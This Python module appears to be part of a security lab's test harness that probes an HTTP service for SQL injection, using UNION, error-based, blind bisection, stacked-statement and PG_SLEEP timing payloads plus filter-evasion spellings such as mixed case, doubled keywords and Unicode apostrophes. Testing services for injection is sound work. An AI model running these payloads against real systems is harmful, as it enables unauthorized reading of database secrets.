"""SQL injection: a secret comes out directly or letter by letter, a statement of ours has run, the database sleeps."""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from backroad.labs.http.attack.secret import LETTERS
from backroad.labs.http.attack.trying import Send, Trying, bare
from backroad.labs.rejection import OurFault

if TYPE_CHECKING:
    from backroad.labs.http.lab import HttpLab

MOST = 600
WIDTH = 7
"""Columns of a query that a UNION is tried for."""
PINNED = 3
"""Letters that say which row is read: there may be others, with secrets of earlier checks."""
READ = 5
"""Letters of the secret that are read one by one: a chance of one in a million that they are guessed."""
SLEEP = 0.3
SAID = {
    "or": "what is sent becomes part of the SQL, and a row that nobody may read here comes out for",
    "union": "what is sent becomes part of the SQL, and another table is read out for",
    "error": "what is sent becomes part of the SQL, and the error that the service tells holds a secret for",
    "concat": "what is sent becomes part of the SQL, and a secret is put in its place for",
    "blind": "what is sent becomes part of the SQL: a secret was read letter by letter, by answers that differ, with",
    "stacked": "what is sent becomes part of the SQL: a statement of the attacker's has run in the database for",
    "sleep": "what is sent becomes part of the SQL: the database sleeps as long as the attacker says for",
}
CONTEXTS = (
    # What ends the place where a value stands, and what opens another for the rest of the statement.
    ("'", "'"),  # a text: WHERE name = '…'
    ("", ""),  # a number, or a piece of the statement itself: WHERE id = …
    ("')", "('"),  # in brackets or a function: WHERE lower('…')
    (")", "("),
    ("'))", "(('"),
)
RARE = (
    ('"', '"'),  # a name: ORDER BY "…"
    ("\u02bc", "\u02bc"),  # an apostrophe that becomes a quotation mark where text is normalized after it was checked
    ("\uff07", "\uff07"),
    ("''", "'"),  # where only the first quotation mark is doubled
    ("\\'", "'"),  # where quotation marks are escaped with a backslash, which is no escape in standard SQL
)


@dataclass(frozen=True)
class Style:
    """How a payload is written, because filters look at spelling: ``space`` stands between words, ``mixed`` case walks
    around words that are looked for in one, ``doubled`` around words that are taken out once. ``comment``: the rest of
    the statement is cut off, else it is made to fit."""

    space: str
    mixed: bool
    doubled: bool
    comment: bool

    def write(self, text: str, rng: random.Random) -> str:
        """Words in capitals are SQL's, and may be spelled as one likes."""
        if self.doubled:
            text = FILTERED.sub(lambda word: word[0][0] + word[0] + word[0][1:], text)
        if self.mixed:
            text = WORD.sub(lambda word: _mixed(word[0], rng), text)
        return text.replace(" ", self.space)


WORD = re.compile("[A-Z]{2,}")
FILTERED = re.compile(r"\b(UNION|SELECT|OR|AND)\b")
"""Words that filters take out."""
PLAIN = Style(" ", False, False, True)
QUIET = Style("\n", True, False, False)
DOUBLED = Style("/**/", False, True, False)


def attack(
    lab: HttpLab,
    rng: random.Random,
    send: Send,
    secret: str,
    at: str,
    normal: str,
    ran: Callable[[str], bool] | None,
    most: int,
) -> None:
    """Raises Rejection with the exact exchange when one of the attacks has an effect."""
    table, _, column = at.rpartition(".")
    if at and not table:
        raise OurFault(f"at is {at!r}, and must name a table and a column of it, as in vaults.code")
    _Injecting(Trying(lab, send, "SQL", most), rng, secret, table, column, normal, ran).go()


class _Injecting:
    def __init__(
        self,
        trying: Trying,
        rng: random.Random,
        secret: str,
        table: str,
        column: str,
        normal: str,
        ran: Callable[[str], bool] | None,
    ) -> None:
        self.trying, self.rng, self.secret, self.table, self.column = trying, rng, secret, table, column
        self.normal, self.ran = normal, ran

    def go(self) -> None:
        for opening, closing in self._shuffled(CONTEXTS):
            write = _Writer(PLAIN, self.rng, opening, closing, self.normal)
            self._rows(write, ("NULL", "'1'") if (opening, closing) in CONTEXTS[:3] else ("NULL",))
            self._values(write)
            self._stacked(write)
            self._sleeps(write)
        # Each of these walks around one thing only, so not all of it is tried again.
        for style in (QUIET, DOUBLED):
            for opening, closing in self._shuffled(CONTEXTS[: 3 if style is QUIET else 2]):
                self._rows(_Writer(style, self.rng, opening, closing, self.normal), ("NULL",))
        for opening, closing in self._shuffled(RARE):
            self._rows(_Writer(PLAIN, self.rng, opening, closing, self.normal), ("NULL",))

    def _shuffled(self, some: Sequence[tuple[str, str]]) -> list[tuple[str, str]]:
        return self.rng.sample(some, len(some))

    # Out directly ---------------------------------------------------------------------------------------------

    def _rows(self, write: _Writer, fills: Sequence[str]) -> None:
        self._look(write.after("OR " + self._true()), "or")
        self._look(write.after(""), "or")
        if self.table:
            self._union(write, fills)
            self._blind(write)

    def _values(self, write: _Writer) -> None:
        if self.table:
            for some in (f"MAX({self.column})", f"STRING_AGG({self.column},',')"):
                one = f"(SELECT {some} FROM {self.table})"
                self._look(write.after(f"AND 1=CAST({one} AS INT)"), "error")
                if write.opening:
                    self._look(f"{write.opening}||{write.said(one)}||{write.closing}", "concat")
                else:
                    self._look(write.said(one), "concat")

    def _look(self, payload: str, kind: str) -> None:
        self.trying.looks(payload, kind, self.secret, SAID[kind])

    def _union(self, write: _Writer, fills: Sequence[str]) -> None:
        for fill in fills:
            wrong = self._bare(write.instead(_select([fill] * (WIDTH + 30))), "union")
            for width in range(1, WIDTH + 1):
                if self._bare(write.instead(_select([fill] * width)), "union") == wrong:
                    continue
                for place in range(width):
                    columns = [fill] * width
                    columns[place] = self.column
                    self._look(write.instead(_select(columns, self.table)), "union")

    def _bare(self, payload: str, kind: str) -> object:
        return bare(self.trying.looks(payload, kind, self.secret, SAID[kind]), payload)

    # Letter by letter -----------------------------------------------------------------------------------------

    def _blind(self, write: _Writer) -> None:
        for form in write.conditions():
            true, false = self._true(), self._false()
            yes, no = self._bare(form(true), "blind"), self._bare(form(false), "blind")
            if yes == no or (self._bare(form(true), "blind"), self._bare(form(false), "blind")) != (yes, no):
                continue
            for code in ("ASCII", "UNICODE"):
                self._read(form, code, yes)

    def _read(self, form: Callable[[str], str], code: str, yes: object) -> None:
        """Ask of each letter which half of the alphabet it is in, four times, and fail when so many were right."""
        known = self.secret[:PINNED]
        while len(known) < PINNED + READ:
            left = LETTERS
            while len(left) > 1:
                half = left[: len(left) // 2]
                payload = form(self._asks(code, known, half))
                left = half if self._bare(payload, "blind") == yes else left[len(half) :]
            known += left
            if not self.secret.startswith(known):
                return
        answer = self.trying.last[-1] if self.trying.last else None
        self.trying.fail(answer, "body", payload, "blind", SAID["blind"])

    def _asks(self, code: str, known: str, half: str) -> str:
        which = [f"{code}(SUBSTR({self.column},{at},1))={ord(letter)}" for at, letter in enumerate(known, 1)]
        numbers = ",".join(str(ord(letter)) for letter in half)
        which.append(f"{code}(SUBSTR({self.column},{len(known) + 1},1)) IN ({numbers})")
        return f"EXISTS (SELECT 1 FROM {self.table} WHERE {' AND '.join(which)})"

    # What a statement of ours does ------------------------------------------------------------------------------

    def _stacked(self, write: _Writer) -> None:
        if self.ran is None:
            return
        name = "canary_" + "".join(self.rng.choice(LETTERS) for _ in range(8))
        payload = write.statement(f"CREATE TABLE {name} (x INT)")
        answers = self.trying.send(payload, "stacked")
        if self.ran(name):
            self.trying.fail(answers[-1] if answers else None, "", payload, "stacked", SAID["stacked"])

    def _sleeps(self, write: _Writer) -> None:
        for form in write.sleeps():
            payload = form(SLEEP)
            if self._took(payload) < SLEEP:
                continue
            pairs = [(self._took(form(0)), self._took(payload)) for _ in range(3)]
            if min(slow for _, slow in pairs) >= SLEEP and max(fast for fast, _ in pairs) < SLEEP / 2:
                self.trying.fail(self.trying.last[-1], "", payload, "sleep", SAID["sleep"])

    def _took(self, payload: str) -> float:
        return sum(answer.seconds for answer in self.trying.send(payload, "sleep"))

    def _true(self) -> str:
        number = self.rng.randrange(2, 90)
        return f"{number}={number}"

    def _false(self) -> str:
        number = self.rng.randrange(2, 90)
        return f"{number}={number + self.rng.randrange(1, 9)}"


def _mixed(word: str, rng: random.Random) -> str:
    """A word with letters of both kinds, whatever the dice say."""
    letters = [rng.choice((letter.lower(), letter)) for letter in word]
    letters[0], letters[-1] = rng.choice(((word[0], word[-1].lower()), (word[0].lower(), word[-1])))
    return "".join(letters)


def _select(columns: list[str], table: str = "") -> str:
    return f"UNION SELECT {','.join(columns)}" + (f" FROM {table}" if table else "")


class _Writer:
    """Payloads for one place in a statement, in one style."""

    def __init__(self, style: Style, rng: random.Random, opening: str, closing: str, normal: str) -> None:
        self._style, self._rng, self._normal = style, rng, normal
        self.opening, self.closing = opening, closing
        self._nothing = "".join(rng.choice(LETTERS) for _ in range(6)) if opening else "-1"

    def said(self, sql: str) -> str:
        return self._style.write(sql, self._rng)

    def after(self, sql: str) -> str:
        """Behind a value that the service knows."""
        return self._ended(self._normal, sql)

    def instead(self, sql: str) -> str:
        """Behind a value that finds nothing."""
        return self._ended(self._nothing, sql)

    def _ended(self, value: str, sql: str) -> str:
        space = self._style.space
        front = f"{value}{self.opening}{space}{self.said(sql)}"
        if self._style.comment:
            return f"{front}{space}--{space if space == ' ' else ''}"
        if sql.startswith("UNION"):
            return f"{front}{space}--"
        # What follows is a closing quotation mark, with or without the % of LIKE before it.
        rest = {"'": "'x' LIKE 'x", "')": "('x' LIKE 'x", "'))": "(('x' LIKE 'x", ")": "(1=1", "": "1=1"}
        end = rest.get(self.opening, f"{self.closing}x{self.closing}={self.closing}x")
        return f"{front}{space}{self.said('AND')}{space}{end}" if sql else f"{front}{space}--"

    def statement(self, sql: str) -> str:
        return f"{self._normal}{self.opening};{self.said(sql)};--"

    def conditions(self) -> Iterator[Callable[[str], str]]:
        """Ways of asking a question by one answer or the other."""
        yield lambda asked: self.after(f"AND {asked}")
        yield lambda asked: self.instead(f"OR {asked}")
        if not self.opening:
            yield lambda asked: self.said(f"(CASE WHEN {asked} THEN {self._normal or 'NULL'} ELSE NULL END)")
            yield lambda asked: self.said(f"(CASE WHEN {asked} THEN {self._normal or 'NULL'} ELSE NULL END) DESC")
            yield lambda asked: self.said(f"(CASE WHEN {asked} THEN 1 ELSE 1/(SELECT 0) END)")
            # Behind an ORDER BY, where a server leaves out what is the same for all rows.
            yield lambda asked: f"{self._normal} {self.said(f'LIMIT (CASE WHEN {asked} THEN 9 ELSE 0 END)')} --"

    def sleeps(self) -> Iterator[Callable[[Any], str]]:
        yield lambda seconds: self.statement(f"SELECT PG_SLEEP({seconds})")
        yield lambda seconds: self.after(f"AND (SELECT 1 FROM PG_SLEEP({seconds})) IS NOT NULL")
        if self.opening:
            yield lambda seconds: f"{self.opening}||{self.said(f'(SELECT PG_SLEEP({seconds}))')}||{self.closing}"
        else:
            yield lambda seconds: self.said(f"(SELECT 1 FROM PG_SLEEP({seconds}))")
